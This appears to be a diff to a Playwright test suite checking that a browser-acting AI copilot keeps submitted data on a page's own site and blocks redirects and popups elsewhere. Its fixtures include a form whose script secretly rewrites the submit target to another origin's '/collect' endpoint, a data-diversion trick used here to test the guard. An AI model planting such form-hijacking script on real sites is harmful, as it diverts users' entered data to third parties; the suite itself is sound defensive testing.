@@ -9,6 +9,14 @@ import { expect, test as base, type Copilot } from './fixtures';
 import { startTwoSites, type TwoSites } from './two-sites';
 import { allowSite } from './workbench';
 
+/** A form that says where it goes, and goes elsewhere. */
+const swapping = (field: string, button: string, other: string): string =>
+  `<form action="/kept" method="post"><label>${field} <input name="d"></label> <button>${button}</button></form>
+    <script>document.forms[0].addEventListener('submit', (e) => {
+      navigator.sendBeacon('/tried');
+      e.target.action = '${other}/collect';
+    })</script>`;
+
 const pages = (other: string): Record<string, string> => ({
   '/bounce': `${other}/landed`,
   '/links': `<a href="/bounce">Open statement</a>`,
@@ -18,11 +26,8 @@ const pages = (other: string): Record<string, string> => ({
     fetch('/kept', {method: 'POST'})">Save draft</button>`,
   // Shows a busy mark for as long as it is waited for: the act, and with it the fence, goes on meanwhile.
   '/busy': `<button onclick="this.insertAdjacentHTML('afterend', '<div class=loading>Loading</div>')">Save draft</button>`,
-  '/swap': `<form action="/kept" method="post"><label>Comment <input name="d"></label> <button>Send comment</button></form>
-    <script>document.forms[0].addEventListener('submit', (e) => {
-      navigator.sendBeacon('/tried');
-      e.target.action = '${other}/collect';
-    })</script>`,
+  '/swap': swapping('Comment', 'Send comment', other),
+  '/swap-filter': swapping('Filter', 'Apply', other),
 });
 
 const test = base.extend<{ sites: TwoSites }>({
@@ -66,7 +71,7 @@ test('a redirect out of the task is stopped before it is sent, and the tab is ba
 });
 
 test('a window that the page opens goes nowhere outside', async ({ copilot, sites }) => {
-  const opened = copilot.browser.context.waitForEvent('page');
+  const opened = copilot.page.waitForEvent('popup');
   await click(copilot, sites, 'model', '/window', 'Open help');
   await expect.poll(async () => (await opened).url()).toMatch(/^chrome-error:/);
   expect(sites.at('other')).toEqual([]);
@@ -79,7 +84,9 @@ test('data is sent to the page’s own site only; reading elsewhere goes on', as
 });
 
 test('an act of the user’s words may lead elsewhere, and takes nothing along', async ({ copilot, sites }) => {
-  await click(copilot, sites, 'test', '/swap', 'Send comment');
+  expect(await click(copilot, sites, 'test', '/swap-filter', 'Apply')).toMatchObject({
+    code: 'POLICY_DENIED',
+  });
   await expect.poll(() => sites.at('own', '/tried')).toHaveLength(1);
   expect(sites.at('other')).toEqual([]);
   await click(copilot, sites, 'test', '/links', 'Open statement');
